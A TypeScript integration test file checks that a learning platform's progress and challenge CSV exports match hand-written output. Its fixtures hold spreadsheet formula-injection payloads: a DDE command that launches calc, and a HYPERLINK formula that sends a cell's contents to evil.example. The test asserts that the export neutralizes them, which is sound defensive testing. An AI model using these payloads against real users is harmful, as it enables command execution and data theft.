import { beforeAll, describe, expect, inject, it } from "vitest";
import { withClient } from "../support/database";
import { PlayBuilder, type BuiltEvent } from "../support/events-factory";
import { TEST_ADMIN } from "../support/integration-setup";
import { waitForProjection } from "../support/projection";
import { signIn, withSession } from "../support/session";
import { sendEvent } from "../support/webhooks";

/**
 * The exact bytes of both export files for a known set of plays, delivered through the real
 * webhook (signed, shuffled, a third of them twice), compared to CSV written out by hand.
 */

const baseUrl = inject("baseUrl");
const databaseUrl = inject("databaseUrl");

/** A small seeded PRNG (mulberry32), so the shuffle is the same on every run. */
function random(seed: number) {
  return () => {
    seed = (seed + 0x6d2b79f5) | 0;
    let t = Math.imul(seed ^ (seed >>> 15), 1 | seed);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

/** Delivers every event in a shuffled order, every third one twice, four at a time. */
async function deliver(events: BuiltEvent[], seed: number): Promise<void> {
  const deliveries = [...events, ...events.filter((_, i) => i % 3 === 0)];
  const next = random(seed);
  for (let i = deliveries.length - 1; i > 0; i--) {
    const j = Math.floor(next() * (i + 1));
    [deliveries[i], deliveries[j]] = [deliveries[j]!, deliveries[i]!];
  }
  const statuses: number[] = [];
  for (let i = 0; i < deliveries.length; i += 4) {
    const batch = deliveries.slice(i, i + 4);
    const responses = await Promise.all(batch.map(({ svixId, payload }) => sendEvent(baseUrl, payload, { svixId })));
    statuses.push(...responses.map((response) => response.status));
  }
  expect(statuses.filter((status) => status === 201)).toHaveLength(events.length);
  expect(statuses.filter((status) => status === 200)).toHaveLength(deliveries.length - events.length);
  await waitForProjection(databaseUrl);
}

async function enrich(userId: string, firstName: string, lastName: string, email: string): Promise<void> {
  await withClient(databaseUrl, (client) =>
    client.query("UPDATE learner SET first_name = $2, last_name = $3, email = $4 WHERE id = $1", [
      userId,
      firstName,
      lastName,
      email,
    ]),
  );
}

const CH = ["expc_ch1", "expc_ch2", "expc_ch3"];
const trackA = { trackId: "trk_expc_a", trackSlug: "export-basics", challengeIds: CH };

function basicPlays(): BuiltEvent[] {
  // Completed, with one failed attempt.
  const p1 = new PlayBuilder({
    ...trackA,
    participantId: "expc_p1",
    userId: "expc_u1",
    inviteId: "expc_inv1",
    mode: "platform",
    customParameters: { lms_user: "42", cohort: "spring-2024" },
    start: "2024-03-01T09:00:00Z",
  });
  p1.trackStarted()
    .after(10).challengeStarted(0)
    .after(50).attempt(0, false)
    .after(60).attempt(0, true)
    .after(1).challengeCompleted(0)
    .after(29).challengeStarted(1)
    .after(120).attempt(1, true)
    .after(1).challengeCompleted(1)
    .after(29).challengeStarted(2)
    .after(120).attempt(2, true)
    .after(1).challengeCompleted(2)
    .after(29).trackCompleted();

  // In progress: skipped from the first challenge to the third.
  const p2 = new PlayBuilder({
    ...trackA,
    participantId: "expc_p2",
    userId: "expc_u2",
    inviteId: null,
    mode: "embed",
    start: "2024-03-01T10:00:00Z",
  });
  p2.trackStarted()
    .after(5).challengeStarted(0)
    .after(30).attempt(0, false)
    .after(25).skipTo(2)
    .after(10).challengeStarted(2)
    .after(120).attempt(2, false);

  // Stopped; its sandbox came up a minute before the track started.
  const p3 = new PlayBuilder({
    ...trackA,
    participantId: "expc_p3",
    userId: "expc_u3",
    inviteId: "expc_inv1",
    mode: "ci",
    customParameters: { crm_id: "0031", cohort: "fall-2024" },
    start: "2024-03-01T10:59:00Z",
  });
  p3.sandbox("created")
    .after(60).trackStarted()
    .after(20).challengeStarted(0)
    .after(300).trackStopped();

  // Only started: no challenge event, so no total known.
  const p4 = new PlayBuilder({
    ...trackA,
    participantId: "expc_p4",
    userId: "expc_u4",
    mode: "platform",
    start: "2024-03-01T12:00:00Z",
  });
  p4.trackStarted();

  return [...p1.build(), ...p2.build(), ...p3.build(), ...p4.build()];
}

const EXPECTED_PROGRESS = [
  // Newest activity first; a play without a challenge event takes its track's length, as the pages do.
  "participant_id,user_id,first_name,last_name,email,track_id,track_slug,invite_id,mode,status,challenges_completed,total_challenges,progress_percent,attempts,failed_attempts,skipped_challenges,started_at,completed_at,last_activity_at,time_spent_seconds,custom_parameters,track_title,param_cohort,param_crm_id,param_lms_user",
  "expc_p4,expc_u4,,,,trk_expc_a,export-basics,,platform,started,0,3,,0,0,0,2024-03-01T12:00:00.000Z,,2024-03-01T12:00:00.000Z,0,,,,,",
  'expc_p3,expc_u3,Grace,Hopper,grace@example.com,trk_expc_a,export-basics,expc_inv1,ci,stopped,0,3,0,0,0,0,2024-03-01T11:00:00.000Z,,2024-03-01T11:05:20.000Z,380,"{""cohort"":""fall-2024"",""crm_id"":""0031""}",,fall-2024,0031,',
  "expc_p2,expc_u2,,,,trk_expc_a,export-basics,,embed,in_progress,0,3,0,2,2,2,2024-03-01T10:00:00.000Z,,2024-03-01T10:03:10.000Z,190,,,,,",
  'expc_p1,expc_u1,Ada,Lovelace,ada@example.com,trk_expc_a,export-basics,expc_inv1,platform,completed,3,3,100,4,1,0,2024-03-01T09:00:00.000Z,2024-03-01T09:07:30.000Z,2024-03-01T09:07:30.000Z,450,"{""cohort"":""spring-2024"",""lms_user"":""42""}",,spring-2024,,42',
].map((line) => `${line}\r\n`).join("");

const EXPECTED_CHALLENGES = [
  "participant_id,user_id,track_id,track_slug,challenge_id,challenge_index,status,started_at,completed_at,last_activity_at,attempts,failed_attempts,skipped,seconds_in_challenge,track_title,challenge_title",
  "expc_p3,expc_u3,trk_expc_a,export-basics,expc_ch1,0,in_progress,2024-03-01T11:00:20.000Z,,2024-03-01T11:00:20.000Z,0,0,false,0,,",
  "expc_p2,expc_u2,trk_expc_a,export-basics,expc_ch1,0,skipped,2024-03-01T10:00:05.000Z,,2024-03-01T10:00:35.000Z,1,1,true,30,,",
  "expc_p2,expc_u2,trk_expc_a,export-basics,,1,skipped,,,,0,0,true,,,",
  "expc_p2,expc_u2,trk_expc_a,export-basics,expc_ch3,2,in_progress,2024-03-01T10:01:10.000Z,,2024-03-01T10:03:10.000Z,1,1,false,120,,",
  "expc_p1,expc_u1,trk_expc_a,export-basics,expc_ch1,0,completed,2024-03-01T09:00:10.000Z,2024-03-01T09:02:00.000Z,2024-03-01T09:02:01.000Z,2,1,false,110,,",
  "expc_p1,expc_u1,trk_expc_a,export-basics,expc_ch2,1,completed,2024-03-01T09:02:30.000Z,2024-03-01T09:04:30.000Z,2024-03-01T09:04:31.000Z,1,0,false,120,,",
  "expc_p1,expc_u1,trk_expc_a,export-basics,expc_ch3,2,completed,2024-03-01T09:05:00.000Z,2024-03-01T09:07:00.000Z,2024-03-01T09:07:01.000Z,1,0,false,120,,",
].map((line) => `${line}\r\n`).join("");

// Text chosen to break naive CSV and to trigger spreadsheet formulas.
const NASTY_PARAMETERS = {
  note: "line one\nline two",
  quote: 'say "hi"',
  list: "a,b,c",
  formula: "=cmd|' /C calc'!A0",
  neg: "-5",
  at: "@SUM(A1)",
  city: "Zürich 東京 🚀",
  tab: "\tx",
  "a,b": "x",
};

const EXPECTED_QUOTING =
  "participant_id,user_id,first_name,last_name,email,track_id,track_slug,invite_id,mode,status,challenges_completed,total_challenges,progress_percent,attempts,failed_attempts,skipped_challenges,started_at,completed_at,last_activity_at,time_spent_seconds,custom_parameters,track_title," +
  '"param_a,b",param_at,param_city,param_formula,param_list,param_neg,param_note,param_quote,param_tab\r\n' +
  `expc_q1,expc_uq,"'=HYPERLINK(""http://evil.example/?""&A1,""click"")","O""Brien, Jr.",'-dash@example.com,trk_expc_b,export-quoting,,platform,started,0,,,0,0,0,2024-03-02T08:00:00.000Z,,2024-03-02T08:00:00.000Z,0,` +
  `"{""a,b"":""x"",""at"":""@SUM(A1)"",""city"":""Zürich 東京 🚀"",""formula"":""=cmd|' /C calc'!A0"",""list"":""a,b,c"",""neg"":""-5"",""note"":""line one\\nline two"",""quote"":""say \\""hi\\"""",""tab"":""\\tx""}",,` +
  `x,'@SUM(A1),Zürich 東京 🚀,'=cmd|' /C calc'!A0,"a,b,c",'-5,"line one\nline two","say ""hi""",'\tx\r\n`;

// More keys than MAX_PARAM_COLUMNS (250), as a visitor adding parameters to an invite URL could.
const MANY_PARAMETERS = Object.fromEntries(Array.from({ length: 260 }, (_, i) => [`k${String(i).padStart(3, "0")}`, `v${i}`]));

let session: ReturnType<typeof withSession>;

beforeAll(async () => {
  session = withSession(await signIn(baseUrl, TEST_ADMIN.email, TEST_ADMIN.password));
  await deliver(basicPlays(), 20240301);
  await enrich("expc_u1", "Ada", "Lovelace", "ada@example.com");
  await enrich("expc_u3", "Grace", "Hopper", "grace@example.com");

  const nasty = new PlayBuilder({
    trackId: "trk_expc_b",
    trackSlug: "export-quoting",
    participantId: "expc_q1",
    userId: "expc_uq",
    customParameters: NASTY_PARAMETERS,
    start: "2024-03-02T08:00:00Z",
  });
  await deliver(nasty.trackStarted().build(), 7);
  await enrich("expc_uq", '=HYPERLINK("http://evil.example/?"&A1,"click")', 'O"Brien, Jr.', "-dash@example.com");

  const crowded = new PlayBuilder({
    trackId: "trk_expc_c",
    trackSlug: "export-many-params",
    participantId: "expc_m1",
    userId: "expc_um",
    customParameters: MANY_PARAMETERS,
    start: "2024-03-03T08:00:00Z",
  });
  await deliver(crowded.trackStarted().build(), 11);
});

describe("GET /api/export/progress.csv", () => {
  it("writes one row per play, exactly as expected", async () => {
    const response = await session(`${baseUrl}/api/export/progress.csv?track=trk_expc_a`);
    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(response.headers.get("content-disposition")).toBe('attachment; filename="progress-track-trk_expc_a.csv"');
    expect(response.headers.get("cache-control")).toBe("no-store");
    expect(await response.text()).toBe(EXPECTED_PROGRESS);
  });

  it("the same file by the track's slug", async () => {
    const response = await session(`${baseUrl}/api/export/progress.csv?track=export-basics`);
    expect(await response.text()).toBe(EXPECTED_PROGRESS);
  });

  it("quotes and neutralizes learner names and custom parameters, and keeps unicode", async () => {
    const response = await session(`${baseUrl}/api/export/progress.csv?track=export-quoting`);
    expect(response.status).toBe(200);
    const bytes = new Uint8Array(await response.arrayBuffer());
    expect(new TextDecoder("utf-8", { fatal: true }).decode(bytes)).toBe(EXPECTED_QUOTING);
  });

  it("?bom=1 puts the UTF-8 byte order mark before the same bytes", async () => {
    const response = await session(`${baseUrl}/api/export/progress.csv?track=trk_expc_a&bom=1`);
    const bytes = new Uint8Array(await response.arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(new TextDecoder("utf-8", { ignoreBOM: true }).decode(bytes.slice(3))).toBe(EXPECTED_PROGRESS);
  });

  it("stops at 250 param columns and says how many keys it left out; the JSON keeps them all", async () => {
    const response = await session(`${baseUrl}/api/export/progress.csv?track=export-many-params`);
    expect(response.headers.get("x-cairn-omitted-param-columns")).toBe("10");
    const [header, record] = (await response.text()).split("\r\n");
    const params = header!.split(",").filter((name) => name.startsWith("param_"));
    expect(params).toHaveLength(250);
    expect(params[0]).toBe("param_k000");
    expect(params.at(-1)).toBe("param_k249");
    expect(record).toContain(`"{""k000"":""v0"",`);
    expect(record).toContain(`""k259"":""v259""}",,v0,v1,v2,`);
    expect(record!.endsWith(",v248,v249")).toBe(true);
  });

  it("says nothing about omitted columns when none were", async () => {
    const response = await session(`${baseUrl}/api/export/progress.csv?track=trk_expc_a`);
    expect(response.headers.get("x-cairn-omitted-param-columns")).toBeNull();
    await response.body?.cancel();
  });

  it("a filter that matches nothing gives the header only, without param columns", async () => {
    const response = await session(`${baseUrl}/api/export/progress.csv?track=no-such-track-expc`);
    expect(response.status).toBe(200);
    expect(await response.text()).toBe(EXPECTED_PROGRESS.split("\r\n")[0]!.replace(/,param_.*$/, "") + "\r\n");
  });
});

describe("GET /api/export/challenges.csv", () => {
  it("writes one row per play and challenge, exactly as expected", async () => {
    const response = await session(`${baseUrl}/api/export/challenges.csv?track=trk_expc_a`);
    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(response.headers.get("content-disposition")).toBe('attachment; filename="challenges-track-trk_expc_a.csv"');
    expect(await response.text()).toBe(EXPECTED_CHALLENGES);
  });

  it("?bom=1 works here too", async () => {
    const response = await session(`${baseUrl}/api/export/challenges.csv?track=export-basics&bom=true`);
    const bytes = new Uint8Array(await response.arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(new TextDecoder("utf-8", { ignoreBOM: true }).decode(bytes.slice(3))).toBe(EXPECTED_CHALLENGES);
  });
});
